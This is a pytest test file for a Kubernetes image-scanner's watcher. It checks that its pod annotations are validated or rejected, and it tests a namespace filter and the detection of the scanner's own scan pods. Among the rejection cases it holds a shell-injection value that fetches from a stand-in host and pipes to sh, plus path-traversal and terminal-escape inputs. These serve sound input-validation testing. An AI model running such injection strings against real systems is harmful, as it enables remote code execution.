"""podsweep.io/* annotations become validated options or logged rejections; the namespace filter."""

from __future__ import annotations

import pytest

from schemas import jobs
from schemas.events import ImageOptions
from services.watcher.annotations import DEFAULT_OPTIONS, NamespaceFilter, filter_from, is_own_scan_pod, options_from


@pytest.mark.parametrize(
    ("annotations", "options"),
    [
        pytest.param({}, ImageOptions(), id="none"),
        pytest.param({"prometheus.io/scrape": "true"}, ImageOptions(), id="other-prefixes-are-not-ours"),
        pytest.param({"podsweep.io/ignore-unfixed": "true"}, ImageOptions(ignore_unfixed=True), id="ignore-unfixed"),
        pytest.param({"podsweep.io/ignore-unfixed": "false"}, ImageOptions(), id="ignore-unfixed-false"),
        pytest.param({"podsweep.io/notify": "payments-oncall"}, ImageOptions(notify="payments-oncall"), id="notify"),
        pytest.param(
            {"podsweep.io/notify": "a" * 63, "podsweep.io/ignore-unfixed": "true"},
            ImageOptions(ignore_unfixed=True, notify="a" * 63),
            id="both-longest-route",
        ),
    ],
)
def test_valid_annotations_become_options(annotations: dict[str, str], options: ImageOptions) -> None:
    assert options_from(annotations) == (options, ())


@pytest.mark.parametrize(
    ("annotations", "reason"),
    [
        pytest.param({"podsweep.io/ignore-unfixed": "True"}, 'expected "true" or "false"', id="capitalised-bool"),
        pytest.param({"podsweep.io/ignore-unfixed": "yes"}, 'expected "true" or "false"', id="yes"),
        pytest.param({"podsweep.io/ignore-unfixed": " true"}, 'expected "true" or "false"', id="leading-space"),
        pytest.param({"podsweep.io/notify": "a" * 64}, "route is 64 characters", id="route-too-long"),
        pytest.param({"podsweep.io/notify": "x" * 100_000}, "route is 100000 characters", id="huge-value"),
        pytest.param({"podsweep.io/notify": "Team"}, "route must be a DNS label", id="upper-case-route"),
        pytest.param({"podsweep.io/notify": "a;curl evil|sh"}, "route must be a DNS label", id="shell-injection"),
        pytest.param({"podsweep.io/notify": "../../etc"}, "route must be a DNS label", id="path-traversal"),
        pytest.param({"podsweep.io/notify": "ops\n"}, "route must be a DNS label", id="trailing-newline"),
        pytest.param({"podsweep.io/notify": "ops\x1b[31m"}, "route must be a DNS label", id="terminal-escape"),
        pytest.param({"podsweep.io/notify": ""}, "route must be a DNS label", id="empty-route"),
        pytest.param({"podsweep.io/notify": "ünïcode"}, "route must be a DNS label", id="unicode"),
        pytest.param({"podsweep.io/severity": "LOW"}, "unknown podsweep.io annotation", id="unknown-key"),
        pytest.param({"podsweep.io/Notify": "ops"}, "unknown podsweep.io annotation", id="case-variant-key"),
    ],
)
def test_bad_podsweep_annotations_are_rejected_and_never_passed_through(
    annotations: dict[str, str], reason: str
) -> None:
    options, rejections = options_from(annotations)
    assert options == DEFAULT_OPTIONS
    assert len(rejections) == 1
    assert rejections[0].reason.startswith(reason)
    # What the shell logs is one printable ASCII line of bounded length.
    for text in (rejections[0].key, rejections[0].preview):
        assert text.isascii()
        assert text.isprintable()
        assert len(text) <= 100


def test_a_bad_annotation_does_not_discard_a_good_one() -> None:
    options, rejections = options_from({"podsweep.io/notify": "ops", "podsweep.io/ignore-unfixed": "maybe"})
    assert options == ImageOptions(notify="ops")
    assert [r.key for r in rejections] == ["podsweep.io/ignore-unfixed"]


def test_podsweeps_own_job_annotations_are_not_rejected() -> None:
    assert options_from({"podsweep.io/digest-ref": "x", "podsweep.io/mode": "node"}) == (ImageOptions(), ())


def test_replicas_share_one_options_instance() -> None:
    a, _ = options_from({"podsweep.io/notify": "ops", "other": "1"})
    b, _ = options_from({"podsweep.io/notify": "ops", "other": "2"})
    assert a is b


@pytest.mark.parametrize(
    ("include", "exclude", "namespace", "selected"),
    [
        pytest.param((), (), "anything", True, id="no-filter-selects-all"),
        pytest.param(("team-*",), (), "team-a", True, id="include-glob"),
        pytest.param(("team-*",), (), "default", False, id="not-included"),
        pytest.param((), ("kube-*",), "kube-system", False, id="excluded"),
        pytest.param(("*",), ("kube-system",), "kube-public", True, id="exclude-is-exact"),
        pytest.param(("team-*",), ("team-legacy",), "team-legacy", False, id="exclude-wins-over-include"),
        pytest.param(("team-?",), (), "team-ab", False, id="question-mark-is-one-character"),
        pytest.param(("team-[ab]",), (), "team-b", True, id="character-class"),
        pytest.param(("Team-*",), (), "team-a", False, id="case-sensitive"),
    ],
)
def test_namespace_filter(include: tuple[str, ...], exclude: tuple[str, ...], namespace: str, selected: bool) -> None:
    assert NamespaceFilter(include, exclude).selects(namespace) is selected


@pytest.mark.parametrize(
    ("include", "exclude", "literal"),
    [
        pytest.param((), (), None, id="all-namespaces"),
        pytest.param(("team-*",), (), None, id="glob-needs-a-cluster-wide-watch"),
        pytest.param(("a", "b"), ("b",), ("a",), id="plain-names-minus-excluded"),
    ],
)
def test_plain_includes_let_the_shell_watch_namespace_by_namespace(
    include: tuple[str, ...], exclude: tuple[str, ...], literal: tuple[str, ...] | None
) -> None:
    assert NamespaceFilter(include, exclude).literal_namespaces() == literal


@pytest.mark.parametrize(
    "pattern",
    [
        pytest.param("", id="empty"),
        pytest.param("team a", id="space"),
        pytest.param("Team-*", id="upper-case-never-matches"),
        pytest.param("ns/evil", id="slash"),
    ],
)
def test_filter_patterns_that_can_never_match_are_configuration_errors(pattern: str) -> None:
    with pytest.raises(ValueError, match="namespace filter"):
        filter_from([pattern], [])


def test_huge_hostile_values_are_never_kept_in_the_options_cache() -> None:
    from services.watcher.annotations import _options

    before = _options.cache_info().currsize
    for i in range(3):
        options_from({"podsweep.io/notify": f"{i}" * 200_000})
    assert _options.cache_info().currsize == before


@pytest.mark.parametrize(
    ("namespace", "annotations", "own"),
    [
        pytest.param("podsweep", {jobs.MODE_ANNOTATION: "node"}, True, id="node-scan-pod"),
        pytest.param("podsweep", {jobs.MODE_ANNOTATION: "sbom"}, True, id="sbom-rescan-pod"),
        pytest.param("podsweep", {}, False, id="podsweep-own-service-pod-is-still-watched"),
        pytest.param("team-a", {jobs.MODE_ANNOTATION: "node"}, False, id="the-annotation-elsewhere-hides-nothing"),
        pytest.param("podsweep-x", {jobs.MODE_ANNOTATION: "node"}, False, id="only-the-scan-namespace-itself"),
    ],
)
def test_only_podsweeps_own_scan_pods_are_left_out(namespace: str, annotations: dict[str, str], own: bool) -> None:
    assert is_own_scan_pod(namespace, annotations, "podsweep") is own
